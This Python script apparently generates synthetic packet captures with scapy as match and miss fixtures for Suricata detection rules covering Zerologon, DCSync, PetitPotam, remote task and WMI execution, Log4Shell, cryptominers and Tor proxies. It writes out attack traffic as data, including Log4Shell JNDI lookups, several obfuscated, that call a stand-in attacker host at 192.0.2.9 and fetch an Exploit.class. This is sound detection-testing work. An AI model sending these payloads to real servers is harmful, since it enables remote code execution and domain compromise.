# ruff: noqa: INP001 - a script beside data, in no package
"""Make the examples of D09 (tasks, WMI), D10, D11, D12, and the many forms of D16, D17, D22 and D23.

    .venv/bin/python rules/examples/suricata/make.py

No distribution has a domain controller, a Windows task scheduler or these attackers' programs to record, so scapy
writes what they say: TCP conversations with the bytes of [MS-RPCE], [MS-SMB2], [MS-NRPC], [MS-DRSR] and [MS-EFSR],
made from the published protocols; and the requests of ``attacks.jsonl`` and ``ordinary.jsonl`` beside the examples,
each in a conversation of its own. Where a real program can be had, ``record.py`` records it instead. Each conversation
is ``<detection>/match/<name>.pcap`` or ``<detection>/miss/<name>.pcap`` beside this file; the same call makes the same
bytes.
"""

from __future__ import annotations

import json
import struct
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Packet
from scapy.utils import wrpcap

HERE = Path(__file__).resolve().parent
START = 1_790_000_000.0
NETLOGON = "12345678-1234-abcd-ef00-01234567cffb"
DRSUAPI = "e3514235-4b06-11d1-ab04-00c04fc2dcd2"
EFSR_LSARPC = "c681d488-d850-11d0-8c52-00c04fd90f7e"
EFSR = "df1941c5-fe89-4e79-bf10-463657acf44d"
TASKS = "86d35949-83c9-4044-b424-db363231fd0c"
AT = "1ff70682-0a51-30e8-076d-740be8cee98b"
SCHED = "378e52b0-c0a9-11cf-822d-00aa0051e40f"
WMI = "9556dc99-828c-11cf-a37e-00aa003240c7"
SVCCTL = "367abb81-9844-35f1-ad32-98f038001003"
NDR = uuid.UUID("8a885d04-1ceb-11c9-9fe8-08002b104860").bytes_le + struct.pack("<I", 2)


class Side(NamedTuple):
    """One end of a conversation."""

    address: str
    port: int


PUPIL, SERVER, CONTROLLER, SECOND = "10.21.4.7", "10.21.0.20", "10.21.0.10", "10.21.0.11"


class Wire:
    """Packets in the order of their time."""

    def __init__(self) -> None:
        self.packets: list[Packet] = []
        self.now = START
        self._port = 49_152

    def save(self, name: str) -> None:
        """Into the file of an example."""
        path = HERE / f"{name}.pcap"
        path.parent.mkdir(parents=True, exist_ok=True)
        wrpcap(str(path), self.packets)
        print(f"{name}: {path.stat().st_size} bytes")

    def talk(
        self,
        client: str,
        server: str,
        port: int,
        said: Iterator[tuple[bool, bytes]] | list[tuple[bool, bytes]],
        *,
        begun: bool = False,
        meanwhile: Callable[[], None] | None = None,
    ) -> None:
        """A TCP conversation: who says it (True: the client) and what.

        ``begun``: its beginning was not captured. ``meanwhile`` is called when the first thing was said.
        """
        self._port += 1
        ends = (Side(client, self._port), Side(server, port))
        at = [1000, 5000]
        if not begun:
            self._put(ends[0], ends[1], "S", at[0], 0)
            self._put(ends[1], ends[0], "SA", at[1], at[0] + 1)
            at = [at[0] + 1, at[1] + 1]
            self._put(ends[0], ends[1], "A", at[0], at[1])
        for by_client, data in said:
            one, two = (0, 1) if by_client else (1, 0)
            for place in range(0, len(data), 1400):
                part = data[place : place + 1400]
                self._put(ends[one], ends[two], "PA", at[one], at[two], part)
                at[one] += len(part)
            self._put(ends[two], ends[one], "A", at[two], at[one])
            if meanwhile is not None:
                meanwhile()
                meanwhile = None
        self._put(ends[0], ends[1], "FA", at[0], at[1])
        self._put(ends[1], ends[0], "FA", at[1], at[0] + 1)
        self._put(ends[0], ends[1], "A", at[0] + 1, at[1] + 1)

    def ask(self, client: str, name: str) -> None:
        """A DNS question, answered by no such name."""
        self._port += 1
        for by_client in (True, False):
            ends = (Side(client, self._port), Side("10.21.0.2", 53))
            one, two = ends if by_client else ends[::-1]
            packet = (
                Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")
                / IP(src=one.address, dst=two.address)
                / UDP(sport=one.port, dport=two.port)
                / DNS(id=7, qr=not by_client, rcode=0 if by_client else 3, qd=DNSQR(qname=name))
            )
            packet.time = self.now
            self.now += 0.001
            self.packets.append(packet)

    def _put(self, source: Side, target: Side, flags: str, sequence: int, acknowledged: int, data: bytes = b"") -> None:
        packet = (
            Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")
            / IP(src=source.address, dst=target.address)
            / TCP(sport=source.port, dport=target.port, flags=flags, seq=sequence, ack=acknowledged, window=64_000)
        )
        packet = packet / data if data else packet
        packet.time = self.now
        self.now += 0.001
        self.packets.append(packet)


# DCE/RPC, as [C706] and [MS-RPCE] say


def pdu(kind: int, body: bytes, call: int) -> bytes:
    """A connection-oriented PDU, version 5.0, little-endian, in one fragment."""
    return struct.pack("<BBBBIHHI", 5, 0, kind, 3, 0x10, 16 + len(body), 0, call) + body


def bind(interface: str, version: int = 1, call: int = 1) -> bytes:
    """A bind to one interface."""
    syntax = uuid.UUID(interface).bytes_le + struct.pack("<I", version)
    return pdu(11, struct.pack("<HHIB3xHBx", 4280, 4280, 0, 1, 0, 1) + syntax + NDR, call)


def bind_ack(call: int = 1) -> bytes:
    """The bind is accepted."""
    return pdu(
        12,
        struct.pack("<HHIH", 4280, 4280, 0x1234, 4) + b"135\0" + b"\0\0" + struct.pack("<B3xHH", 1, 0, 0) + NDR,
        call,
    )


def request(number: int, stub: bytes, call: int) -> bytes:
    """A call of operation ``number``."""
    return pdu(0, struct.pack("<IHH", len(stub), 0, number) + stub, call)


def response(stub: bytes, call: int) -> bytes:
    """What it returned."""
    return pdu(2, struct.pack("<IHBx", len(stub), 0, 0) + stub, call)


def text(value: str) -> bytes:
    """A conformant varying string of NDR, padded to four bytes."""
    size = len(value) + 1
    data = struct.pack("<III", size, 0, size) + value.encode("utf-16-le") + b"\0\0"
    return data + bytes(-len(data) % 4)


def calls(interface: str, numbers: list[tuple[int, bytes]], version: int = 1) -> Iterator[tuple[bool, bytes]]:
    """Bind over TCP, then the calls one after the other; each is answered."""
    yield True, bind(interface, version)
    yield False, bind_ack()
    for call, (number, stub) in enumerate(numbers, start=2):
        yield True, request(number, stub, call)
        yield False, response(struct.pack("<I", 5), call)


# SMB 2 [MS-SMB2]


class Smb:
    """One SMB 2.1 connection with a session; both ends' messages as ``said``."""

    def __init__(self) -> None:
        self.said: list[tuple[bool, bytes]] = []
        self._message = 0
        self._command(
            0,
            struct.pack("<HHHHI16sQHH", 36, 2, 1, 0, 0, bytes(16), 0, 0x0202, 0x0210),
            struct.pack(
                "<HHHH16sIIIIQQHHI", 65, 1, 0x0210, 0, bytes(16), 0, 1 << 20, 1 << 20, 1 << 20, 0, 0, 128, 0, 0
            ),
        )
        self._command(
            1,
            struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 88, 16, 0) + bytes(16),
            struct.pack("<HHHH", 9, 0, 72, 0) + b"\0",
        )

    def tree(self, share: str) -> None:
        """Open a share."""
        name = share.encode("utf-16-le")
        self._command(
            3,
            struct.pack("<HHHH", 9, 0, 72, len(name)) + name,
            struct.pack("<HBBIII", 16, 2 if share.endswith("IPC$") else 1, 0, 0, 0, 0x1FF),
        )

    def create(self, name: str) -> None:
        """Open a pipe or file."""
        raw = name.encode("utf-16-le")
        body = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x12019F, 0, 7, 1, 0x40, 120, len(raw), 0, 0) + (
            raw or b"\0"
        )
        answer = struct.pack("<HBBIQQQQQQII16sII", 89, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0x80, 0, b"F" * 16, 0, 0) + b"\0"
        self._command(5, body, answer)

    def write(self, data: bytes, offset: int = 0) -> None:
        """Write to what was opened."""
        self._command(
            9,
            struct.pack("<HHIQ16sIIHHI", 49, 112, len(data), offset, b"F" * 16, 0, 0, 0, 0, 0) + data,
            struct.pack("<HHIIHH", 17, 0, len(data), 0, 0, 0),
        )

    def close(self) -> None:
        """Close it."""
        self._command(6, struct.pack("<HHI16s", 24, 0, 0, b"F" * 16), struct.pack("<HHI", 60, 0, 0) + bytes(52))

    def calls(self, interface: str, numbers: list[tuple[int, bytes]], version: int = 1) -> None:
        """Bind and call through the pipe that is open."""
        asked = [
            bind(interface, version),
            *(request(number, stub, call) for call, (number, stub) in enumerate(numbers, 2)),
        ]
        answers = [bind_ack(), *(response(struct.pack("<I", 5), call) for call in range(2, 2 + len(numbers)))]
        for ask, answer in zip(asked, answers, strict=True):
            self._command(
                11,
                struct.pack("<HHI16sIIIIIIII", 57, 0, 0x0011C017, b"F" * 16, 120, len(ask), 0, 0, 0, 4280, 1, 0) + ask,
                struct.pack("<HHI16sIIIIII", 49, 0, 0x0011C017, b"F" * 16, 112, 0, 112, len(answer), 0, 0) + answer,
            )

    def written(self, interface: str, numbers: list[tuple[int, bytes]], version: int = 1) -> None:
        """The same by writing to the pipe and reading from it, as programs outside Windows do."""
        asked = [bind(interface, version), *(request(each, stub, call) for call, (each, stub) in enumerate(numbers, 2))]
        answers = [bind_ack(), *(response(struct.pack("<I", 5), call) for call in range(2, 2 + len(numbers)))]
        for ask, answer in zip(asked, answers, strict=True):
            self.write(ask)
            self._command(
                8,
                struct.pack("<HBBIQ16sIIIIHH", 49, 0x50, 0, 4280, 0, b"F" * 16, 0, 0, 0, 0, 0, 0) + b"\0",
                struct.pack("<HBBIII", 17, 80, 0, len(answer), 0, 0) + answer,
            )

    def _command(self, number: int, body: bytes, answer: bytes) -> None:
        for by_client, data in ((True, body), (False, answer)):
            head = struct.pack(
                "<4sHHIHHIIQIIQ16s",
                b"\xfeSMB",
                64,
                1,
                0,
                number,
                31,
                0 if by_client else 1,
                0,
                self._message,
                0xFEFF,
                1,
                0x400_0000_0001,
                bytes(16),
            )
            self.said.append((by_client, struct.pack(">I", len(head) + len(data)) + head + data))
        self._message += 1


# Netlogon [MS-NRPC 3.5.4.4]


def challenge(computer: str, nonce: bytes) -> bytes:
    """The stub of NetrServerReqChallenge."""
    return struct.pack("<I", 0x20000) + text("\\\\DC1") + text(computer) + nonce


def authenticate(computer: str, credential: bytes, flags: int) -> bytes:
    """The stub of NetrServerAuthenticate3."""
    return (
        struct.pack("<I", 0x20000) + text("\\\\DC1") + text(f"{computer}$") + struct.pack("<HH", 6, 0) + text(computer)
        + credential + struct.pack("<I", flags)
    )  # fmt: skip


def guesses(number: int, *, zero: bool) -> list[tuple[int, bytes]]:
    """So many pairs; with the zero credential of the attack, or others as if the password were wrong."""
    found = []
    for turn in range(number):
        credential = bytes(8) if zero else struct.pack("<Q", 0x1122334455667788 * (turn + 1) & (1 << 64) - 1)
        found += [
            (4, challenge("PC7", credential)),
            (26, authenticate("PC7", credential, 0x212FFFFF if zero else 0x612FFFFF)),
        ]
    return found


def d10() -> None:
    """Zerologon."""
    wire = Wire()
    wire.talk(PUPIL, CONTROLLER, 49_670, calls(NETLOGON, guesses(12, zero=True)))
    wire.save("d10-zerologon/match/one-connection")
    wire = Wire()
    for _ in range(12):
        wire.talk(PUPIL, CONTROLLER, 49_670, calls(NETLOGON, guesses(1, zero=True)))
        wire.now += 0.4
    wire.save("d10-zerologon/match/connection-each")
    wire = Wire()
    smb = Smb()
    smb.tree(r"\\10.21.0.10\IPC$")
    smb.create("netlogon")
    smb.calls(NETLOGON, guesses(11, zero=False))
    wire.talk(PUPIL, CONTROLLER, 445, smb.said)
    wire.save("d10-zerologon/match/pipe-other-credential")
    wire, smb = Wire(), Smb()
    smb.tree(r"\\10.21.0.10\IPC$")
    smb.create("netlogon")
    smb.written(NETLOGON, guesses(11, zero=True))
    wire.talk(PUPIL, CONTROLLER, 445, smb.said)
    wire.save("d10-zerologon/match/pipe-written")
    wire = Wire()
    wire.talk(PUPIL, CONTROLLER, 49_670, list(calls(NETLOGON, guesses(4, zero=True)))[2:], begun=True)
    wire.save("d10-zerologon/match/beginning-missing")
    wire = Wire()
    for place in range(9):
        wire.talk(f"10.21.4.{10 + place}", CONTROLLER, 49_670, calls(NETLOGON, guesses(3, zero=False)))
    wire.save("d10-zerologon/miss/members-start-up")
    wire = Wire()
    for _ in range(12):
        wire.talk(PUPIL, CONTROLLER, 49_670, calls(NETLOGON, guesses(1, zero=False)))
        wire.now += 20
    wire.save("d10-zerologon/miss/slow-retries")


# Directory replication [MS-DRSR]


def as_rep() -> bytes:
    """A Kerberos AS-REP over TCP as a controller sends it [RFC 4120]."""

    def der(tag: int, *parts: bytes) -> bytes:
        body = b"".join(parts)
        size = bytes([len(body)]) if len(body) < 128 else b"\x82" + struct.pack(">H", len(body))
        return bytes([tag]) + size + body

    realm = der(0x1B, b"SCHOOL.EXAMPLE")
    name = der(0x30, der(0xA0, der(2, b"\x01")), der(0xA1, der(0x30, der(0x1B, b"docent"))))
    service = der(
        0x30, der(0xA0, der(2, b"\x02")), der(0xA1, der(0x30, der(0x1B, b"krbtgt"), der(0x1B, b"SCHOOL.EXAMPLE")))
    )
    secret = der(0x30, der(0xA0, der(2, b"\x12")), der(0xA1, der(2, b"\x02")), der(0xA2, der(4, bytes(range(150)))))
    ticket = der(0x61, der(0x30, der(0xA0, der(2, b"\x05")), der(0xA1, realm), der(0xA2, service), der(0xA3, secret)))
    message = der(
        0x6B,
        der(0x30, der(0xA0, der(2, b"\x05")), der(0xA1, der(2, b"\x0b")), der(0xA3, realm), der(0xA4, name),
            der(0xA5, ticket), der(0xA6, secret)),
    )  # fmt: skip
    return struct.pack(">I", len(message)) + message


def as_req() -> bytes:
    """A Kerberos AS-REQ over TCP."""
    message = bytes.fromhex(
        "6a81883081 85a103020105a20302010aa479 3077a00703050050800010 a1133011a003020101a10a30081b06646f63656e74"
        "a2101b0e5343484f4f4c2e4558414d504c45 a3233021a003020102a11a30181b066b72627467741b0e"
        "5343484f4f4c2e4558414d504c45"
        "a511180f32303337303931333032343830355aa70602042d0ac8e9a808300602011202011700".replace(" ", "")
    )
    return struct.pack(">I", len(message)) + message


def d11() -> None:
    """DCSync."""
    copy = [(0, bytes(44)), (12, bytes(120)), (3, bytes(300)), (3, bytes(300)), (1, bytes(24))]
    wire = Wire()
    wire.talk(PUPIL, CONTROLLER, 49_667, calls(DRSUAPI, copy, 4))
    wire.save("d11-dcsync/match/workstation")
    wire = Wire()
    wire.talk(PUPIL, CONTROLLER, 88, [(True, as_req()), (False, as_rep())])
    wire.talk(PUPIL, CONTROLLER, 49_667, calls(DRSUAPI, copy, 4))
    wire.save("d11-dcsync/match/workstation-with-tickets")
    wire = Wire()
    wire.talk(PUPIL, SECOND, 88, [(True, as_req()), (False, as_rep())])
    wire.talk(SECOND, CONTROLLER, 49_667, calls(DRSUAPI, copy, 4))
    wire.save("d11-dcsync/miss/between-controllers")
    wire = Wire()
    # The first controller answers a member, and later asks the second one.
    wire.talk(PUPIL, CONTROLLER, 49_667, calls(DRSUAPI, [(0, bytes(44)), (12, bytes(120)), (1, bytes(24))], 4))
    wire.talk(CONTROLLER, SECOND, 49_667, calls(DRSUAPI, copy, 4))
    wire.save("d11-dcsync/miss/controller-by-its-answers")
    wire = Wire()
    # DsCrackNames and DsGetDomainControllerInfo: what members and administrators ask.
    wire.talk(
        PUPIL,
        CONTROLLER,
        49_667,
        calls(DRSUAPI, [(0, bytes(44)), (12, bytes(120)), (16, bytes(80)), (1, bytes(24))], 4),
    )
    wire.save("d11-dcsync/miss/names-looked-up")
    wire = Wire()
    # Operation 3 of another interface (svcctl: LockServiceDatabase).
    wire.talk(PUPIL, CONTROLLER, 49_667, calls(SVCCTL, [(3, bytes(24))], 2))
    wire.save("d11-dcsync/miss/other-interface")


def d12() -> None:
    """PetitPotam."""
    path = text("\\\\10.21.4.7\\deel\\x") + struct.pack("<I", 0)
    for name, pipe, interface, number in (
        ("match/lsarpc", "lsarpc", EFSR_LSARPC, 0),
        ("match/efsrpc", "efsrpc", EFSR, 0),
        ("match/lsarpc-encrypt", "lsarpc", EFSR_LSARPC, 4),
        ("match/efsrpc-users", "efsrpc", EFSR, 6),
        ("miss/close", "efsrpc", EFSR, 3),
    ):
        wire, smb = Wire(), Smb()
        smb.tree(r"\\10.21.0.10\IPC$")
        smb.create(pipe)
        smb.calls(interface, [(number, path)])
        smb.close()
        wire.talk(PUPIL, CONTROLLER, 445, smb.said)
        wire.save(f"d12-petitpotam/{name}")
    for name, pipe, interface in (("lsarpc-written", "lsarpc", EFSR_LSARPC), ("efsrpc-written", "efsrpc", EFSR)):
        wire, smb = Wire(), Smb()
        smb.tree(r"\\10.21.0.10\IPC$")
        smb.create(pipe)
        smb.written(interface, [(0, path)])
        wire.talk(PUPIL, CONTROLLER, 445, smb.said)
        wire.save(f"d12-petitpotam/match/{name}")
    for name, number in (("tcp", 0), ("tcp-users", 6)):
        wire = Wire()
        wire.talk(PUPIL, CONTROLLER, 49_668, calls(EFSR, [(number, path)]))
        wire.save(f"d12-petitpotam/match/{name}")
    wire, smb = Wire(), Smb()
    smb.tree(r"\\10.21.0.10\IPC$")
    smb.create("lsarpc")
    # LsarClose and LsarQueryInformationPolicy of lsarpc itself, through the same pipe.
    smb.calls("12345778-1234-abcd-ef00-0123456789ab", [(0, bytes(20)), (7, bytes(24))], 0)
    wire.talk(PUPIL, CONTROLLER, 445, smb.said)
    wire.save("d12-petitpotam/miss/lsa-policy")


def d09() -> None:
    """What real programs for recording do not offer: tasks, WMI, renamed pipes and files."""

    def remote(name: str, interface: str, number: int, version: int = 1, *, admin: bool = True) -> None:
        wire, smb = Wire(), Smb()
        if admin:
            smb.tree(r"\\10.21.0.20\ADMIN$")
        smb.tree(r"\\10.21.0.20\IPC$")
        smb.create("atsvc")
        smb.calls(interface, [(number, bytes(60))], version)
        wire.talk(PUPIL, SERVER, 445, smb.said)
        wire.save(f"d09-admin-share/{name}")

    remote("match/share-then-task", TASKS, 1)
    remote("match/share-then-at", AT, 0)
    remote("match/share-then-scheduler", SCHED, 1)
    remote("miss/task-alone", TASKS, 1, admin=False)
    remote("miss/share-and-task-list", TASKS, 7)
    wire, smb = Wire(), Smb()
    wire.talk(PUPIL, SERVER, 49_700, calls(WMI, [(24, bytes(200))], 0))
    smb.tree(r"\\10.21.0.20\ADMIN$")
    wire.talk(PUPIL, SERVER, 445, smb.said)
    wire.talk(PUPIL, SERVER, 49_700, calls(WMI, [(24, bytes(200))], 0))
    wire.save("d09-admin-share/match/wmi-and-share")
    wire = Wire()
    wire.talk(PUPIL, SERVER, 49_700, calls(WMI, [(20, bytes(200)), (24, bytes(200))], 0))
    wire.save("d09-admin-share/miss/wmi-alone")

    wire, smb = Wire(), Smb()
    smb.tree(r"\\10.21.0.20\IPC$")
    for kind in ("stdin", "stdout", "stderr"):
        smb.create(f"hulpdienst-LOKAAL7-4711-{kind}")
    wire.talk(PUPIL, SERVER, 445, smb.said)
    wire.save("d09-admin-share/match/pipes-renamed")

    program = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(64) + b"PE\0\0" + b"\x64\x86" + bytes(400)

    def file(name: str, share: str, path: str, data: bytes) -> None:
        wire, smb = Wire(), Smb()
        smb.tree(rf"\\10.21.0.20\{share}")
        smb.create(path)
        smb.write(data)
        smb.close()
        wire.talk(PUPIL, SERVER, 445, smb.said)
        wire.save(f"d09-admin-share/{name}")

    file("match/program-renamed", "ADMIN$", "Temp\\verslag.tmp", program)
    file("match/program-on-drive", "D$", "beheer\\hulp.exe", program)
    file("match/script", "C$", "Windows\\Temp\\start.bat", b"@echo off\r\nnet user\r\n" * 8)
    file("miss/document", "C$", "Users\\docent\\verslag.docx", b"PK\3\4" + bytes(300))
    file("miss/program-elsewhere", "leerlingen", "werk\\verslag.tmp", program)

    # SMB 1: a service over TCP, then NT_CREATE_ANDX of the pipe.
    wire = Wire()
    wire.talk(PUPIL, SERVER, 49_701, calls(SVCCTL, [(15, bytes(40)), (12, bytes(200)), (19, bytes(40))], 2))
    wire.talk(PUPIL, SERVER, 445, list(smb1("\\RemCom_communicaton")))
    wire.save("d09-admin-share/match/pipe-smb1")


def smb1(pipe: str) -> Iterator[tuple[bool, bytes]]:
    """SMB 1 [MS-CIFS]: negotiate, then NT_CREATE_ANDX of a pipe."""

    def message(command: int, words: bytes, data: bytes, number: int, *, reply: bool = False) -> bytes:
        head = struct.pack(
            "<4sBIBHHQHHHHH", b"\xffSMB", command, 0, 0x98 if reply else 0x18, 0xC807, 0, 0, 0, 1, 4711, 1, number
        )
        body = head + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data
        return struct.pack(">I", len(body)) + body

    yield True, message(0x72, b"", b"\x02NT LM 0.12\0", 1)
    yield (
        False,
        message(
            0x72,
            struct.pack("<HBHHIIIIQhB", 0, 3, 50, 1, 65_535, 65_536, 0, 0x80000, 0, 0, 0),
            bytes(16),
            1,
            reply=True,
        ),
    )
    name = b"\0" + pipe.encode("utf-16-le") + b"\0\0"
    words = struct.pack("<BBHBHIIIQIIIIIB", 0xFF, 0, 0, 0, len(pipe) * 2, 0, 0, 0x12019F, 0, 0, 7, 1, 0, 2, 0)
    yield True, message(0xA2, words, name, 2)
    yield False, message(0xA2, bytes(68), b"", 2, reply=True)


def http(target: str, *headers: str, body: str = "", method: str = "GET") -> list[tuple[bool, bytes]]:
    """One request and its answer."""
    lines = [f"{method} {target} HTTP/1.1", "Host: www.school.example", *headers]
    lines += [f"Content-Length: {len(body)}"] if body else []
    return [
        (True, ("\r\n".join(lines) + "\r\n\r\n" + body).encode()),
        (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
    ]


def d16() -> None:
    """Log4Shell: what follows it, and its rarer hiding places."""
    attack = http("/zoek", "User-Agent: ${jndi:ldap://192.0.2.9:1389/a}")
    anonymous = bytes.fromhex("300c0201016007020103040080 00".replace(" ", ""))
    accepted = bytes.fromhex("300c02010161070a010004000400")
    for name, port, said in (
        ("ldap", 1389, [(True, anonymous), (False, accepted)]),
        ("rmi", 1099, [(True, b"JRMI\x00\x02K"), (False, b"N\x00\x0910.21.0.9\x00\x00")]),
        ("class", 8000, http("/Exploit.class", "User-Agent: Java/1.8.0_181")),
    ):
        wire = Wire()
        wire.talk("203.0.113.5", SERVER, 80, attack)
        wire.talk(SERVER, "192.0.2.9", port, said)
        wire.save(f"d16-log4shell/match/followed-{name}")
    wire = Wire()
    wire.talk(
        "203.0.113.5",
        SERVER,
        80,
        attack,
        meanwhile=lambda: wire.talk(SERVER, "192.0.2.9", 1389, [(True, anonymous), (False, accepted)]),
    )
    wire.save("d16-log4shell/match/followed-before-answer")
    for name, request_of in (
        ("body-form", http("/in", body="naam=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D&x=1", method="POST")),
        ("body-nested", http("/in", body='{"naam":"${${lower:j}ndi:ldap://192.0.2.9/a}"}', method="POST")),
        ("header-escaped", http("/", "X-Naam: \\u0024\\u007bjndi:ldap://192.0.2.9/a}")),
        ("uri-escaped", http("/?naam=\\u0024\\u007bjndi:ldap://192.0.2.9/a}")),
        ("uri-plain", http("/?naam=${jndi:ldap://192.0.2.9/a}")),
        ("log-in", http("/", "Authorization: Basic JHtqbmRpOmxkYXA6Ly8xOTIuMC4yLjkvYX06eA==")),
    ):
        wire = Wire()
        wire.talk("203.0.113.5", SERVER, 80, request_of)
        wire.save(f"d16-log4shell/match/{name}")
    wire = Wire()
    wire.talk(
        PUPIL, SERVER, 80, http("/in", body='{"tekst":"let s = `${a} ${b ? `${c}` : d}`; jndi en ldap"}', method="POST")
    )
    wire.talk(SERVER, "192.0.2.9", 389, [(True, anonymous), (False, accepted)])
    wire.talk(SERVER, "192.0.2.9", 8000, http("/Les.class", "User-Agent: Java/21"))
    wire.save("d16-log4shell/miss/ldap-without-attack")


def collections() -> None:
    """Requests by the hundred: each attack must be seen, nothing in the ordinary ones."""
    for detection in ("d16-log4shell", "d17-web-injection"):
        for source, name in (("attacks", "match/attacks"), ("ordinary", "miss/ordinary-requests")):
            wire = Wire()
            for line in (HERE / detection / f"{source}.jsonl").read_text(encoding="utf-8").splitlines():
                asked = json.loads(line)
                headers = asked["headers"]
                if asked["body"] and not any(one.startswith("Content-Type:") for one in headers):
                    headers = [*headers, "Content-Type: application/x-www-form-urlencoded"]
                said = http(asked["target"], *headers, body=asked["body"], method=asked["method"])
                wire.talk("203.0.113.5", SERVER, 80, said)
            wire.save(f"{detection}/{name}")


def lines(*said: tuple[bool, str]) -> list[tuple[bool, bytes]]:
    """Lines of JSON and the like."""
    return [(by_client, one.encode() + b"\n") for by_client, one in said]


def d22() -> None:
    """Miners: the rarer methods, and pools by their names."""
    job = '{"jsonrpc":"2.0","id":3,"error":null,"result":{"status":"OK"}}'
    for name, ask in (
        (
            "submit-alone",
            '{"id":3,"jsonrpc":"2.0","method":"submit","params":{"id":"7","job_id":"4","nonce":"d0030040","result":"'
            + "e" * 64
            + '"}}',
        ),
        ("job-template", '{"id":"0","jsonrpc":"2.0","method":"getjobtemplate","params":{"algorithm":"cuckaroo"}}'),
        ("program", '{"id":1,"method":"aanmelden","params":["XMRig/6.21.0 (Windows NT 10.0; Win64; x64)"]}'),
        ("configure", '{"method": "mining.configure","id": 1,"params": [["version-rolling"], {}]}'),
    ):
        wire = Wire()
        wire.talk(PUPIL, "203.0.113.80", 3333, lines((True, ask), (False, job)))
        wire.save(f"d22-cryptominer/match/{name}")
    wire = Wire()
    wire.talk(
        PUPIL,
        "203.0.113.80",
        8332,
        http("/", "User-Agent: cpuminer/2.3.3", body='{"method": "getwork", "params": [], "id":0}', method="POST"),
    )
    wire.save("d22-cryptominer/match/http-getwork")

    for name, host in (("pool-looked-up", "xmr-eu1.nanopool.org"), ("pool-over-tls", "pool.hashvault.pro")):
        wire = Wire()
        wire.ask(PUPIL, host) if name == "pool-looked-up" else wire.talk(PUPIL, "203.0.113.80", 443, client_hello(host))
        wire.save(f"d22-cryptominer/match/{name}")
    wire = Wire()
    for host in (
        "www.nicehash.com",
        "f2pool.com",
        "nanopool.org.school.example",
        "pool.zwembad.example",
        "swimming-pool.com",
    ):
        wire.ask(PUPIL, host)
        wire.talk(PUPIL, "203.0.113.81", 443, client_hello(host))
    wire.save("d22-cryptominer/miss/sites-about-it")


def client_hello(host: str) -> list[tuple[bool, bytes]]:
    """A TLS 1.2 ClientHello with a server name [RFC 5246, RFC 6066], and the alert that refuses it."""
    name = struct.pack(">HBH", len(host) + 3, 0, len(host)) + host.encode()
    extensions = (
        struct.pack(">HH", 0, len(name)) + name + struct.pack(">HHHHH", 10, 4, 2, 29, 16) + struct.pack(">H", 0)
    )
    body = b"\x03\x03" + bytes(range(32)) + b"\0" + struct.pack(">HHH", 4, 0xC02F, 0x9C) + b"\x01\0"
    body += struct.pack(">H", len(extensions)) + extensions
    shake = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return [(True, b"\x16\x03\x01" + struct.pack(">H", len(shake)) + shake), (False, b"\x15\x03\x03\0\x02\x02\x28")]


def d23() -> None:
    """Tor's directory and names, and open proxies."""
    wire = Wire()
    wire.talk(PUPIL, "203.0.113.9", 80, http("/tor/status-vote/current/consensus-microdesc/D586D1.z"))
    wire.save("d23-tor/match/directory")
    wire = Wire()
    wire.ask(PUPIL, "voorbeeldvoorbeeldvoorbeeldvoorbeeldvoorbeeldvoorbeeld22.onion")
    wire.save("d23-tor/match/onion-looked-up")
    wire = Wire()
    wire.talk(PUPIL, "203.0.113.9", 3128, http("www.example.com:443", method="CONNECT"))
    wire.save("d23-tor/match/connect")
    wire = Wire()
    greeting = [
        (True, b"\5\1\0"),
        (False, b"\5\0"),
        (True, b"\5\1\0\3\x0bexample.com\1\xbb"),
        (False, b"\5\0\0\1" + bytes(6)),
    ]
    wire.talk(PUPIL, "203.0.113.9", 1080, greeting)
    wire.save("d23-tor/match/socks")
    wire = Wire()
    wire.talk(PUPIL, SERVER, 1080, greeting)
    wire.talk(PUPIL, SERVER, 3128, http("www.example.com:443", method="CONNECT"))
    wire.talk(PUPIL, "203.0.113.9", 80, http("/tor/bezienswaardigheden", "Referer: http://www.example.com/onion"))
    wire.talk(PUPIL, "203.0.113.9", 4000, [(True, b"\5\1\0"), (False, b"\5\xff")])
    wire.ask(PUPIL, "onion.example.com")
    wire.save("d23-tor/miss/proxy-of-the-school")


def main() -> None:
    """Make all."""
    parts: list[Callable[[], None]] = [d09, d10, d11, d12, d16, collections, d22, d23]
    for part in parts:
        part()


if __name__ == "__main__":
    main()
